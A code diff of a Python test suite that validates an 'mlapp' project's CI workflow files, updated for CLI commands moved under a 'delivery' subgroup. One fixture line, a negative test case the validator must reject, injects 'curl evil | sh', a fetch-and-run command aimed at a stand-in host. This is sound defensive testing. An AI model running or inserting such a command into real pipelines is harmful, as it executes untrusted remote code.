@@ -24,11 +24,9 @@ FILES = sorted(WORKFLOWS.glob("*.y*ml"))
 
 
 def _commands() -> dict[str, set[str] | None]:
-    import click
+    from mlapp.cli import command_tree
 
-    from mlapp.cli import cli
-
-    return {n: (set(c.commands) if isinstance(c, click.Group) else None) for n, c in cli.commands.items()}
+    return command_tree()
 
 
 def test_there_are_workflows_to_check() -> None:
@@ -91,7 +89,7 @@ def test_repository_rules_pass_on_every_workflow() -> None:
 
 
 def test_check_workflows_command(mlapp_in_repo) -> None:
-    code, out = mlapp_in_repo("check-workflows")
+    code, out = mlapp_in_repo("delivery", "check-workflows")
     assert code == 0, out
 
 
@@ -119,8 +117,8 @@ def test_delivery_order_is_deploy_smoke_then_accept() -> None:
             s.get("run", "") for s in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]
         ]
         order = [
-            next(i for i, r in enumerate(steps) if f"mlapp {verb}" in r)
-            for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke-env", "accept")
+            next(i for i, r in enumerate(steps) if f"mlapp delivery {verb} " in r)
+            for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke", "accept")
         ]
         assert order == sorted(order), f"{name}: {steps}"
         assert all("--push" in steps[i] for i in (order[0], order[2]))
@@ -159,7 +157,7 @@ jobs:
         with:
           persist-credentials: false
       - run: make lint
-      - run: uv run --frozen mlapp deploy-status --fetch
+      - run: uv run --frozen mlapp delivery status --fetch
 """
 
 
@@ -192,7 +190,11 @@ BROKEN = [
     ),
     ("chained shell", GOOD.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
     ("unknown target", GOOD.replace("make lint", "make no-such-target"), "not in the Makefile"),
-    ("unknown command", GOOD.replace("mlapp deploy-status", "mlapp no-such-command"), "is not a subcommand"),
+    (
+        "unknown command",
+        GOOD.replace("mlapp delivery status", "mlapp no-such-command"),
+        "is not a subcommand",
+    ),
     ("raw shell", GOOD.replace("make lint", "pip install something"), "must call `make <target>`"),
     ("uv without frozen", GOOD.replace("uv run --frozen mlapp", "uv run mlapp"), "needs --frozen"),
     (
@@ -246,7 +248,7 @@ jobs:
       - uses: astral-sh/setup-uv@20cfd1bf945f4377ade1205e4dbc17946fc9a30d # v10.0.1
         with:
           enable-cache: false
-      - run: uv run --frozen mlapp promote --push
+      - run: uv run --frozen mlapp delivery promote --push
         env:
           KUBE_CONFIG: ${{{{ secrets.KUBE_CONFIG }}}}
 """
